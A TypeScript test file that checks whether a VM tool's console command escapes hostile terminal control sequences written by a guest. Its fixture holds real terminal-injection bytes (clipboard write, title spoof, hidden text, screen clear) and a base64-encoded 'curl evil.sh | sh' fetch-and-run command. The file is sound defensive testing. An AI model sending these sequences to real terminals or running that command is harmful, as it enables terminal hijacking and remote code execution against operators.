/**
 * A guest's console reaches the operator's terminal through `outrig instance console`. A guest that
 * writes terminal control sequences (clipboard, title, erase, hidden text, an 8-bit CSI) must not
 * get them obeyed: on a terminal (a pseudo-terminal from util-linux `script`) the CLI shows them
 * escaped; --raw and pipes get the bytes; the API labels the stream as untrusted guest output.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { startInProcess, stoppedVm, type InProcessCluster } from '../helpers/in-process.ts';
import { OUTRIG_BIN } from '../helpers/processes.ts';

const HOSTILE = Buffer.concat([
  Buffer.from('OUTRIG-GUEST-READY name=talker\n'),
  Buffer.from('\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07'), // OSC 52: put a command on the clipboard
  Buffer.from('\x1b]0;root@bastion\x07'), // OSC 0: the window title
  Buffer.from('\x1b[2K\x1b[8mhidden\x1b[0m'), // erase the line, invisible text
  Buffer.from([0x9b, 0x32, 0x4a]), // C1 CSI (0x9b) "2J": clear the screen on an 8-bit terminal
  Buffer.from('\nend\n'),
]);

function run(cmd: string, args: string[], env: Record<string, string>): Promise<{ code: number | null; out: Buffer }> {
  const p = spawn(cmd, args, { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
  const chunks: Buffer[] = [];
  p.stdout.on('data', (d: Buffer) => chunks.push(d));
  p.stderr.on('data', (d: Buffer) => chunks.push(d));
  return new Promise((resolve) => p.once('close', (code) => resolve({ code, out: Buffer.concat(chunks) })));
}

describe('the console on the operator terminal', () => {
  let env: InProcessCluster;
  let cliEnv: Record<string, string>;

  before(async () => {
    env = await startInProcess('tty-host');
    const { serialLog } = await stoppedVm(env, 'talker');
    writeFileSync(serialLog, HOSTILE);
    cliEnv = { OUTRIG_DATA: env.dir.path, OUTRIG_URL: env.ctl.url };
  });
  after(() => env?.close());

  /** The console command in a pseudo-terminal: what the operator's terminal would receive. */
  const onTerminal = (extra = '') => run('script', ['-qec', `'${process.execPath}' '${OUTRIG_BIN}' instance console talker ${extra}`, '/dev/null'], cliEnv);

  test('on a terminal the control sequences are shown escaped, never sent', async () => {
    const r = await onTerminal();
    assert.equal(r.code, 0, r.out.toString());
    const text = r.out.toString('utf8');
    assert.ok(!r.out.includes(0x1b), `an ESC reached the terminal: ${JSON.stringify(text)}`);
    assert.ok(!r.out.includes(0x9b) && !text.includes('\u009b'), 'a C1 CSI reached the terminal');
    assert.ok(!r.out.includes(0x07), 'a BEL reached the terminal');
    assert.match(text, /\^\[\]52;c;Y3VybCBldmlsLnNoIHwgc2g=\^G/);
    assert.match(text, /\^\[\]0;root@bastion\^G\^\[\[2K\^\[\[8mhidden\^\[\[0m\\x9b2J/);
    assert.match(text, /OUTRIG-GUEST-READY name=talker\r?\n/);
  });

  test('--raw on a terminal, and a pipe, get the bytes the guest wrote', async () => {
    const raw = await onTerminal('--raw');
    assert.equal(raw.code, 0, raw.out.toString());
    assert.ok(raw.out.includes(Buffer.from('\x1b]52;c;')), 'raw means raw');
    const piped = await run(process.execPath, [OUTRIG_BIN, 'instance', 'console', 'talker'], cliEnv);
    assert.equal(piped.code, 0, piped.out.toString());
    assert.ok(piped.out.equals(HOSTILE), 'a pipe gets the bytes unchanged');
  });

  test('the API labels the console as untrusted guest output, and its OpenAPI description says so', async () => {
    const res = await env.api.raw('GET', '/v1/instances/talker/console');
    assert.equal(res.headers.get('x-outrig-untrusted-output'), 'guest-serial-console');
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
    assert.ok(Buffer.from(await res.arrayBuffer()).equals(HOSTILE));
    const doc = await env.api.get<{ paths: Record<string, { get: { description?: string } }> }>('/v1/openapi.json');
    assert.match(doc.paths['/v1/instances/{ref}/console']!.get.description ?? '', /[Uu]ntrusted guest output.*x-outrig-untrusted-output/s);
  });
});
